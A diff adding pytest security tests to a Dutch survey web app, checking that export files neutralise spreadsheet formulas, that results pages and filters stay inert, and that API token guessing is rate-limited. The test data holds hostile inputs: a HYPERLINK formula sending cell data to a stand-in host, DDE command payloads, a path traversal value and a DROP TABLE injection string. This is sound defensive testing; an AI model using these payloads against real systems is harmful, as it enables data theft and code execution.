@@ -1556,3 +1556,169 @@ def test_a_used_invitation_link_shows_thanks_and_nothing_of_the_answers(
         page = walk.get(**params)
         assert page.status_code == 200 and "Bedankt!" in text_of(page)
         assert "Geheime" not in text_of(page) and page.headers["Cache-Control"] == "no-store"
+
+
+# -- results and exports: formula cells in every format, text answers, API token guessing --------
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+@pytest.fixture
+def formula_survey(app, make_survey, make_invitation, respondent):
+    """A survey with one response per formula in its free-text answers."""
+    survey = make_survey(slug="formules")
+    for value in FORMULAS:
+        _invitation, token = make_invitation(survey)
+        walk = respondent(app.test_client(), f"/u/{token}")
+        walk.answer_all(name=value.strip()[:60] if value[0] in "\t\r" else value[:60], remark=value)
+        assert walk.submit().status_code == 302
+    return survey
+
+
+def _download(client, slug: str, fmt: str) -> bytes:
+    response = client.get(f"/resultaten/{slug}/export/{fmt}")
+    assert response.status_code == 200, fmt
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+    return response.get_data()
+
+
+def test_formula_cells_are_inert_in_every_export_format(app, formula_survey, make_user, tmp_path):
+    import csv
+    import io
+    import json
+
+    import openpyxl
+    import pyreadstat
+
+    client = app.test_client()
+    login(client, make_user(role="researcher"))
+    slug = formula_survey.slug
+    for fmt, delimiter in (("csv", ","), ("csv-excel", ";")):
+        text = _download(client, slug, fmt).decode("utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
+        remarks = {r["opmerking"] for r in rows}
+        assert remarks == {"'" + v.strip() for v in FORMULAS}, (fmt, remarks)  # the flow trims answers
+    path = tmp_path / "x.xlsx"
+    path.write_bytes(_download(client, slug, "xlsx"))
+    book = openpyxl.load_workbook(path)
+    sheet = book["antwoorden"]
+    header = [c.value for c in sheet[1]]
+    column = header.index("opmerking")
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    assert all(c.data_type == "s" for c in cells)  # text, never a formula cell
+    assert {c.value for c in cells} == {"'" + v.strip() for v in FORMULAS}
+    for row in sheet.iter_rows():
+        assert all(c.data_type != "f" for c in row)
+    # The statistics formats and JSON keep the exact text: no program that reads them runs formulas.
+    data = json.loads(_download(client, slug, "json"))
+    assert {r["opmerking"] for r in data["responses"]} == {v.strip() for v in FORMULAS}
+    for fmt, reader in (("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)):
+        target = tmp_path / f"x.{fmt}"
+        target.write_bytes(_download(client, slug, fmt))
+        frame, _meta = reader(str(target))
+        assert {str(v) for v in frame["opmerking"]} == {v.strip() for v in FORMULAS}, fmt
+    for fmt in ("codebook-csv", "codebook-html", "r"):
+        _download(client, slug, fmt)
+
+
+def test_text_answers_are_inert_on_the_results_pages(
+    app, make_survey, make_invitation, respondent, make_user
+):
+    survey = make_survey(slug="tekst")
+    for payload in PAYLOADS:
+        _invitation, token = make_invitation(survey)
+        walk = respondent(app.test_client(), f"/u/{token}")
+        walk.answer_all(name=payload[:60], remark=payload)
+        assert walk.submit().status_code == 302
+    client = app.test_client()
+    login(client, make_user(role="researcher"))
+    html = text_of(client.get("/resultaten/tekst/tekst/opmerking"))
+    for payload in PAYLOADS:
+        assert_inert(html, payload)
+    for url in ("/resultaten/tekst", "/resultaten/tekst/tekst/dienst_naam", "/resultaten/", "/bevindingen"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        for payload in PAYLOADS:
+            assert_inert(text_of(response), payload, shown=False)
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        {"soort_dienst": SCRIPT},
+        {"regio": "../../etc"},
+        {"pagina": "-1"},
+        {"pagina": "99999999999999999999"},
+        {"sort": "x; DROP TABLE answers"},
+    ],
+)
+def test_results_filters_outside_the_allow_list_are_ignored(
+    app, make_survey, make_invitation, respondent, make_user, query
+):
+    survey = make_survey(slug="filters")
+    _invitation, token = make_invitation(survey)
+    walk = respondent(app.test_client(), f"/u/{token}")
+    walk.answer_all(remark="een antwoord")
+    walk.submit()
+    client = app.test_client()
+    login(client, make_user(role="researcher"))
+    for url in (
+        "/resultaten/filters",
+        "/resultaten/filters/tekst/opmerking",
+        "/resultaten/filters/export/csv",
+    ):
+        response = client.get(url, query_string=query)
+        assert response.status_code == 200, url
+        if response.mimetype == "text/html":
+            assert_inert(text_of(response), SCRIPT, shown=False)
+
+
+def test_own_answers_of_another_survey_are_404_and_never_stored_by_caches(
+    app, make_survey, make_invitation, respondent, unchanged
+):
+    """The thank-you page links to the respondent's own answers, kept in this browser's session."""
+    first = make_survey(slug="eigen")
+    make_survey(slug="andere")
+    _invitation, token = make_invitation(first)
+    client = app.test_client()
+    walk = respondent(client, f"/u/{token}")
+    walk.answer_all(remark="mijn eigen antwoord")
+    walk.submit()
+    with unchanged():
+        own = client.get("/resultaten/eigen/mijn-antwoorden")
+        foreign = client.get("/resultaten/andere/mijn-antwoorden")
+        missing = client.get("/resultaten/bestaat-niet/mijn-antwoorden")
+        stranger = app.test_client().get("/resultaten/eigen/mijn-antwoorden")
+    assert own.status_code == 200
+    assert own.headers["Cache-Control"] == "no-store"  # somebody's own answers
+    assert foreign.status_code == missing.status_code == stranger.status_code == 404
+    assert page_body(foreign) == page_body(missing)
+
+
+def test_api_token_guessing_is_429_and_leaves_the_login_working(app, client, make_user, unchanged):
+    """Before the fix: wrong bearer tokens could be tried without any limit (401 each time)."""
+    from app.exports.tokens import create_token
+
+    researcher = make_user(role="researcher")
+    real = create_token(researcher, "laptop")
+    db.session.commit()
+    limit = app.config["API_TOKEN_MAX_FAILURES"]
+    with unchanged():
+        statuses = [
+            client.get("/api/v1/surveys", headers={"Authorization": f"Bearer wwz_geraden{n}"}).status_code
+            for n in range(limit + 1)
+        ]
+        refused = client.get("/api/v1/surveys", headers={"Authorization": f"Bearer {real}"})
+    assert statuses[:limit] == [401] * limit and statuses[limit] == 429
+    assert refused.status_code == 429 and refused.headers["Retry-After"]
+    other = app.test_client()
+    other.environ_base["REMOTE_ADDR"] = "198.51.100.7"
+    assert other.get("/api/v1/surveys", headers={"Authorization": f"Bearer {real}"}).status_code == 200
+    assert login(client, make_user()).status_code == 302  # the login has its own counter
